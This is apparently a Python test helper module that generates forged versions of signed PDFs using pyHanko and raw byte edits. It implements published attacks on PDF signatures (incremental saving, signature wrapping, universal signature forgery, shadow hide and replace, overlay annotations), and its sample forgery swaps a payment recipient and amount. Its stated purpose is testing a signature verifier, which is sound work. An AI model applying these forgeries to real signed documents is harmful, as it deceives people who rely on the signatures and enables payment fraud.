"""Forgeries of signed PDFs, as an attacker makes them: each function takes the bytes of a signed file
and returns the bytes of a forged one (or, for the shadow attacks, prepares the file the victim signs).

The attack classes come from public research:
- PDF-Insecurity, "1 Trillion Dollar Refund" (Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk,
  2019): incremental saving attack (ISA), signature wrapping (SWA), universal signature forgery (USF);
- PDF-Insecurity, "Shadow Attacks" (Mainka, Mladenov, Rohlmann, Schwenk, 2021): hide, replace,
  hide-and-replace, where the victim signs a file that already carries what the attacker will reveal;
- EU DSS's PdfModificationDetection, written because of them: annotation overlaps, visual differences,
  page count differences, object modifications by category.

Everything is real PDF syntax, written with pyHanko's incremental writer or, where a writer would
refuse to produce the attack (no xref, a stale ``startxref``, relocated signed bytes, broken
signature dictionaries), with byte surgery. Coordinates are PDF points with the origin bottom-left;
``NAME_BOX`` covers the only text line of page 1 of ``tests/corpus/fourpages.pdf`` ("First page").
"""
from __future__ import annotations

import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PageObject
from pyhanko.sign import signers

Box = tuple[float, float, float, float]
NAME_BOX: Box = (60.0, 705.0, 370.0, 745.0)  # over "First page" on page 1 (text at x 72-134, y 717-730)
FORGED_TEXT = "Nguoi nhan: Le Van Gia - 1.000.000.000 VND"


# -- small writer helpers ----------------------------------------------------------------------------
def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)


def _finish(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"), pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding")})


def _rect(box: Box) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in box)


def _painting(box: Box, text: str) -> bytes:
    """Content that blanks ``box`` (white) and writes ``text`` in it, in the box's own coordinates."""
    width, height = box[2] - box[0], box[3] - box[1]
    return (f"q 1 1 1 rg 0 0 {width:.2f} {height:.2f} re f Q "
            f"BT 0 0 0 rg /Helv 14 Tf 4 {height / 2 - 5:.2f} Td ({text}) Tj ET").encode("latin-1")


def cover_appearance(writer: IncrementalPdfFileWriter, box: Box, text: str = FORGED_TEXT) -> generic.IndirectObject:
    """A form XObject (an appearance stream) the size of ``box`` that hides what is under it and shows ``text``."""
    width, height = box[2] - box[0], box[3] - box[1]
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): _rect((0, 0, width, height)),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Helv"): writer.add_object(_helvetica())})}),
    }, stream_data=_painting(box, text))
    return writer.add_object(stream)


def _page(writer: IncrementalPdfFileWriter, index: int) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    ref, _ = writer.find_page_for_modification(index)
    return ref, ref.get_object()


def _append(writer: IncrementalPdfFileWriter, holder: generic.DictionaryObject, holder_ref: generic.IndirectObject
            | None, key: str, value: generic.PdfObject) -> None:
    """``holder[key].append(value)``, creating the array when absent, marking whatever changed for update."""
    if key not in holder:
        holder[pdf_name(key)] = generic.ArrayObject([value])
        if holder_ref is not None:
            writer.mark_update(holder_ref)
        else:
            writer.update_container(holder)
        return
    raw = holder.raw_get(key)
    array = raw.get_object()
    array.append(value)
    if isinstance(raw, generic.IndirectObject):
        writer.mark_update(raw)
    elif holder_ref is not None:
        writer.mark_update(holder_ref)
    else:
        writer.update_container(holder)


def _add_annotation(writer: IncrementalPdfFileWriter, page_index: int,
                    annotation: generic.DictionaryObject) -> generic.IndirectObject:
    page_ref, page = _page(writer, page_index)
    annotation[pdf_name("/P")] = page_ref
    ref = writer.add_object(annotation)
    _append(writer, page, page_ref, "/Annots", ref)
    return ref


def _add_field(writer: IncrementalPdfFileWriter, field: generic.IndirectObject) -> None:
    root = writer.root
    if "/AcroForm" not in root:
        root[pdf_name("/AcroForm")] = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject()})
        writer.update_root()
    raw = root.raw_get("/AcroForm")
    form = raw.get_object()
    _append(writer, form, raw if isinstance(raw, generic.IndirectObject) else writer.root_ref, "/Fields", field)


def _widget(writer: IncrementalPdfFileWriter, box: Box, text: str, **entries: generic.PdfObject) -> generic.DictionaryObject:
    widget = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/Rect"): _rect(box), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): cover_appearance(writer, box, text)}),
    })
    widget.update({pdf_name("/" + k): v for k, v in entries.items()})
    return widget


def _field_named(writer: IncrementalPdfFileWriter, name: str) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            return ref, field
    raise LookupError(f"no field named {name!r}")


# -- overlays: a new signature field, annotations ----------------------------------------------------
def overlay_signature_field(signed_pdf: bytes, *, box: Box = NAME_BOX, text: str = FORGED_TEXT,
                            bogus_value: bool = False) -> bytes:
    """A new, unsigned signature field whose widget appearance paints a white box and new text over
    page 1 (ISO 32000 lets a signature field exist without ``/V``; Shadow Attacks 2021 and EU DSS's
    annotation-overlap check). ``bogus_value`` gives it a ``/V`` that is a signature dictionary
    signing nothing, as a careless verifier might count it as "another signature"."""
    writer = _writer(signed_pdf)
    entries: dict[str, generic.PdfObject] = {"FT": pdf_name("/Sig"), "T": pdf_string("Chu ky bo sung")}
    if bogus_value:
        entries["V"] = writer.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Sig"), pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
            pdf_name("/ByteRange"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            pdf_name("/Contents"): generic.ByteStringObject(b"\x00" * 16)}))
    ref = _add_annotation(writer, 0, _widget(writer, box, text, **entries))
    _add_field(writer, ref)
    return _finish(writer)


def add_annotation(signed_pdf: bytes, subtype: str, *, box: Box = NAME_BOX, text: str = FORGED_TEXT,
                   signer: signers.Signer | None = None) -> bytes:
    """A ``/FreeText``, ``/Stamp`` or ``/Link`` annotation added in an incremental update, its appearance
    covering page 1's text (PDF-Insecurity's annotation attacks; EU DSS's annotation overlap).
    DocMDP P=3 allows annotations, P=2 does not, approval signatures forbid nothing.

    With ``signer``, the same update also carries a new signature by it, so the annotation hides inside
    a signed revision (a signature is accountable; what rides along with it is not)."""
    writer = _writer(signed_pdf)
    annotation = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/" + subtype),
        pdf_name("/Rect"): _rect(box), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): cover_appearance(writer, box, text)}),
    })
    if subtype == "FreeText":
        annotation[pdf_name("/Contents")] = pdf_string(text)
        annotation[pdf_name("/DA")] = pdf_string("/Helv 14 Tf 0 g")
    elif subtype == "Stamp":
        annotation[pdf_name("/Name")] = pdf_name("/Approved")
    elif subtype == "Link":
        annotation[pdf_name("/Border")] = generic.ArrayObject([generic.NumberObject(0)] * 3)
        annotation[pdf_name("/A")] = generic.DictionaryObject({
            pdf_name("/S"): pdf_name("/URI"), pdf_name("/URI"): pdf_string("https://example.invalid/pay")})
    _add_annotation(writer, 0, annotation)
    if signer is None:
        return _finish(writer)
    out = BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name="Riding"), signer).sign_pdf(writer, output=out)
    return out.getvalue()


# -- shadow attacks: prepared before signing, revealed after -----------------------------------------
HIDDEN_FIELD, FORM_FIELD = "GhiChu", "NguoiNhan"
HONEST_TEXT = "Nguoi nhan: Tran Thi Than - 100.000 VND"


def with_hidden_widget(pdf: bytes, *, box: Box = NAME_BOX, text: str = FORGED_TEXT) -> bytes:
    """The file the victim is asked to sign (Shadow Attacks, hide-and-replace): a text field whose
    widget is hidden (``/F 2``) and whose appearance already covers page 1's text. Nothing shows when
    the specialist looks at it; ``unhide_widget`` reveals it after signing."""
    writer = _writer(pdf)
    ref = _add_annotation(writer, 0, _widget(writer, box, text, FT=pdf_name("/Tx"), T=pdf_string(HIDDEN_FIELD),
                                             V=pdf_string(text), F=generic.NumberObject(2)))
    _add_field(writer, ref)
    return _finish(writer)


def unhide_widget(signed_pdf: bytes) -> bytes:
    """Shadow hide-and-replace, the reveal: the hidden widget's ``/F`` goes from 2 (Hidden) to 4 (Print)
    in an incremental update; pyHanko's diff policy has counted such flag changes as form filling."""
    writer = _writer(signed_pdf)
    ref, field = _field_named(writer, HIDDEN_FIELD)
    field[pdf_name("/F")] = generic.NumberObject(4)
    writer.mark_update(ref)
    return _finish(writer)


def with_form_field(pdf: bytes, *, box: Box = NAME_BOX, text: str = HONEST_TEXT) -> bytes:
    """The file the victim signs for shadow replace: a visible text field showing ``text`` over page 1."""
    writer = _writer(pdf)
    ref = _add_annotation(writer, 0, _widget(writer, box, text, FT=pdf_name("/Tx"), T=pdf_string(FORM_FIELD),
                                             V=pdf_string(text), DA=pdf_string("/Helv 14 Tf 0 g")))
    _add_field(writer, ref)
    return _finish(writer)


def replace_field_value(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """Shadow replace: the field's ``/V`` and its ``/AP`` (a new appearance stream) changed after signing,
    which DocMDP P=2 calls form filling and an approval signature does not forbid at all."""
    writer = _writer(signed_pdf)
    ref, field = _field_named(writer, FORM_FIELD)
    box = tuple(float(v) for v in field["/Rect"])
    field[pdf_name("/V")] = pdf_string(text)
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): cover_appearance(writer, box, text)})  # type: ignore[arg-type]
    writer.mark_update(ref)
    return _finish(writer)


def overwrite_appearance(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """Shadow replace without touching the field: its appearance stream is redefined in place (an
    incremental update holding an object with the same number) showing other text; ``/V`` stays."""
    writer = _writer(signed_pdf)
    _, field = _field_named(writer, FORM_FIELD)
    ap_ref = field["/AP"].raw_get("/N")
    old = ap_ref.get_object()
    box = tuple(float(v) for v in field["/Rect"])
    replacement = generic.StreamObject({k: v for k, v in old.items() if k not in ("/Length", "/Filter", "/DecodeParms")},
                                       stream_data=_painting(box, text))  # type: ignore[arg-type]
    writer.objects[(ap_ref.generation, ap_ref.idnum)] = replacement
    return _finish(writer)


# -- pages and content -------------------------------------------------------------------------------
def _text_page(writer: IncrementalPdfFileWriter, text: str) -> PageObject:
    content = writer.add_object(generic.StreamObject(stream_data=f"BT /F1 14 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")))
    resources = generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
        {pdf_name("/F1"): writer.add_object(_helvetica())})})
    return PageObject(contents=content, media_box=(0, 0, 612, 792), resources=resources)


def add_page(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """A page appended in an incremental update, as any editor does (page count differs; EU DSS)."""
    writer = _writer(signed_pdf)
    writer.insert_page(_text_page(writer, text))
    return _finish(writer)


def replace_page(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """Page 1 swapped: the page tree's ``/Kids`` entry now points to a new page object with other content;
    the signed page object still exists, unreferenced."""
    writer = _writer(signed_pdf)
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    kids_raw = pages.raw_get("/Kids")
    kids = kids_raw.get_object()
    new_page = _text_page(writer, text)
    new_page[pdf_name("/Parent")] = pages_ref
    kids[0] = writer.add_object(new_page)
    writer.mark_update(kids_raw if isinstance(kids_raw, generic.IndirectObject) else pages_ref)
    return _finish(writer)


def append_content(signed_pdf: bytes, *, box: Box = NAME_BOX, text: str = FORGED_TEXT) -> bytes:
    """New content streams around page 1's ``/Contents`` (the page dictionary updated), the way editors
    add to a page: ``q`` before the signed content, ``Q`` and a white box with new text over the signed
    text after it, with the page's own font ``/F1``."""
    writer = _writer(signed_pdf)
    page_ref, page = _page(writer, 0)
    ops = (f"Q q 1 1 1 rg {box[0]} {box[1]} {box[2] - box[0]} {box[3] - box[1]} re f Q "
           f"BT 0 0 0 rg /F1 14 Tf {box[0] + 4} {box[1] + 14} Td ({text}) Tj ET").encode("latin-1")
    before = writer.add_object(generic.StreamObject(stream_data=b"q"))
    after = writer.add_object(generic.StreamObject(stream_data=ops))
    contents = page.raw_get("/Contents")
    signed = contents.get_object() if isinstance(contents, generic.IndirectObject) else contents
    existing = list(signed) if isinstance(signed, generic.ArrayObject) else [contents]
    page[pdf_name("/Contents")] = generic.ArrayObject([before, *existing, after])
    writer.mark_update(page_ref)
    return _finish(writer)


# -- incremental saving attacks with byte surgery ----------------------------------------------------
def _last_startxref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def _page_content_ref(pdf: bytes, index: int = 0) -> generic.Reference:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page = reader.root["/Pages"]["/Kids"][index].get_object()
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    return contents.reference


def _stream_bytes(idnum: int, generation: int, data: bytes) -> bytes:
    return (f"{idnum} {generation} obj\n<< /Length {len(data)} >>\nstream\n".encode() + data
            + b"\nendstream\nendobj\n")


def _forged_page_content(text: str) -> bytes:
    return f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")


def append_objects_without_xref(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """ISA with no xref section (1 Trillion Dollar Refund, ISA variant): page 1's content stream is
    redefined by an object with the same number simply appended after ``%%EOF``. No cross-reference
    table points to it, so a reader that follows ``startxref`` shows the signed page, while one that
    rebuilds the xref by scanning (as viewers do with damaged files) takes the later definition."""
    ref = _page_content_ref(signed_pdf)
    return signed_pdf + b"\n" + _stream_bytes(ref.idnum, ref.generation, _forged_page_content(text))


def broken_startxref(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """ISA that viewers fall for: the no-xref append above, ended by a ``startxref`` that points nowhere.
    Poppler and PDFium then rebuild the cross-reference table by scanning, the later definition of page
    1's content wins, and the forged text is what a person sees."""
    return append_objects_without_xref(signed_pdf, text=text) + b"startxref\n0\n%%EOF\n"


def stale_startxref(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """ISA with a stale ``startxref``: a complete incremental update (page 1's content appended to), but
    its ``startxref`` points back to the signed revision's xref, so a validator that follows it sees
    only the signed revision while the update sits in the file."""
    previous = _last_startxref(signed_pdf)
    updated = append_content(signed_pdf, text=text)
    tail_at = updated.rindex(b"startxref")
    tail = re.sub(rb"startxref\s+\d+", f"startxref\n{previous}".encode(), updated[tail_at:], count=1)
    return updated[:tail_at] + tail


def _trailer_entries(pdf: bytes) -> dict[str, str]:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    trailer = reader.trailer
    out = {"/Root": f"{reader.root_ref.idnum} {reader.root_ref.generation} R"}
    if "/Info" in trailer:
        info = trailer.raw_get("/Info")
        out["/Info"] = f"{info.idnum} {info.generation} R"
    if "/ID" in trailer:
        out["/ID"] = "[" + " ".join(f"<{bytes(v.original_bytes).hex()}>" for v in trailer["/ID"]) + "]"
    out["/Size"] = str(int(trailer["/Size"]))
    return out


def raw_update(pdf: bytes, objects: list[tuple[int, bytes]], *, size: int | None = None) -> bytes:
    """An incremental update written by hand: ``objects`` (object number, complete ``N G obj … endobj``
    bytes), a classic xref table, a trailer with ``/Prev`` and ``startxref``."""
    entries = _trailer_entries(pdf)
    body, offsets = bytearray(b"\n"), {}
    for idnum, data in objects:
        offsets[idnum] = len(pdf) + len(body)
        body += data
    xref_at = len(pdf) + len(body)
    table = bytearray(b"xref\n")
    for idnum in sorted(offsets):
        table += f"{idnum} 1\n{offsets[idnum]:010d} 00000 n \n".encode()
    new_size = max(int(entries.pop("/Size")), size or 0, max(offsets) + 1)
    trailer = " ".join(f"{k} {v}" for k, v in entries.items())
    table += (f"trailer\n<< /Size {new_size} {trailer} /Prev {_last_startxref(pdf)} >>\n"
              f"startxref\n{xref_at}\n%%EOF\n").encode()
    return pdf + bytes(body) + bytes(table)


def signature_wrapping(signed_pdf: bytes, *, text: str = FORGED_TEXT) -> bytes:
    """SWA (1 Trillion Dollar Refund, signature wrapping): the signature dictionary is redefined in a new
    revision with a ``/ByteRange`` whose second range points to a relocated *copy* of the originally
    signed tail, so the digest still matches, while the same revision redefines page 1's content.
    The signed bytes are all still there; they no longer are what the file shows."""
    reader = PdfFileReader(BytesIO(signed_pdf), strict=False)
    sig = reader.embedded_signatures[0]
    start1, len1, start2, len2 = (int(v) for v in sig.byte_range)
    tail = signed_pdf[start2:start2 + len2]
    sig_ref = sig.sig_field.raw_get("/V")
    size = int(reader.trailer["/Size"])
    holder_num, content_ref = size, _page_content_ref(signed_pdf)
    holder_head = f"{holder_num} 0 obj\n<< /Length {len(tail)} >>\nstream\n".encode()
    relocated = len(signed_pdf) + 1 + len(holder_head)  # raw_update writes one newline first
    holder = holder_head + tail + b"\nendstream\nendobj\n"
    sig_dict = generic.DictionaryObject(dict(sig.sig_object.items()))
    sig_dict[pdf_name("/ByteRange")] = generic.ArrayObject(
        generic.NumberObject(v) for v in (start1, len1, relocated, len2))
    buf = BytesIO()
    sig_dict.write_to_stream(buf, None)
    sig_obj = f"{sig_ref.idnum} {sig_ref.generation} obj\n".encode() + buf.getvalue() + b"\nendobj\n"
    page = _stream_bytes(content_ref.idnum, content_ref.generation, _forged_page_content(text))
    return raw_update(signed_pdf, [(holder_num, holder), (sig_ref.idnum, sig_obj), (content_ref.idnum, page)],
                      size=size + 1)


# -- universal signature forgery: the signature dictionary made unusable --------------------------------
USF_BYTERANGE = {
    "removed": b"",
    "null": b"/ByteRange null",
    "zeros": b"/ByteRange [0 0 0 0]",
    "strings": b"/ByteRange [(0) (a) (b) (c)]",
    "dictionary": b"/ByteRange << /A 1 >>",
    "negative": b"/ByteRange [-1 -20 -300 -4000]",
}
USF_CONTENTS = {
    "removed": b"",
    "null": b"/Contents null",
    "empty": b"/Contents <>",
    "odd_hex": b"/Contents <ABC>",
}


def _overwrite(pdf: bytes, pattern: bytes, replacement: bytes) -> bytes:
    """The last match of ``pattern`` replaced in place by ``replacement`` padded with spaces (offsets kept)."""
    match = list(re.finditer(pattern, pdf, re.S))[-1]
    length = match.end() - match.start()
    assert len(replacement) <= length, "the replacement must fit where the original was"
    return pdf[:match.start()] + replacement.ljust(length, b" ") + pdf[match.end():]


def usf_byte_range(signed_pdf: bytes, variant: str) -> bytes:
    """USF (1 Trillion Dollar Refund): the signature's ``/ByteRange`` removed, null, all zeros, strings,
    a dictionary or negative, in place. A viewer that shows a signature panel without checking it, or a
    verifier that throws on it, is the vulnerability; the answer must be "not genuine", never a 500."""
    return _overwrite(signed_pdf, rb"/ByteRange\s*\[[^\]]*\]", USF_BYTERANGE[variant])


def usf_contents(signed_pdf: bytes, variant: str) -> bytes:
    """USF: the signature's ``/Contents`` removed, null, empty or an odd number of hex digits, in place."""
    return _overwrite(signed_pdf, rb"/Contents\s*<[0-9A-Fa-f]{200,}>", USF_CONTENTS[variant])


# -- the registry looked up by file hash --------------------------------------------------------------
def change_contents_padding(signed_pdf: bytes) -> bytes:
    """One hex digit of the unsigned zero padding after the CMS DER inside the (last) signature's
    ``/Contents`` changed: the signature and every signed byte are untouched, the file hash is not."""
    reader = PdfFileReader(BytesIO(signed_pdf), strict=False)
    _, len1, start2, _ = (int(v) for v in reader.embedded_signatures[-1].byte_range)
    at = start2 - 2  # the last hex digit before '>'
    assert signed_pdf[len1:len1 + 1] == b"<" and signed_pdf[start2 - 1:start2] == b">"
    assert signed_pdf[at:at + 1] == b"0", "the last hex digit is padding"
    return signed_pdf[:at] + b"1" + signed_pdf[at + 1:]
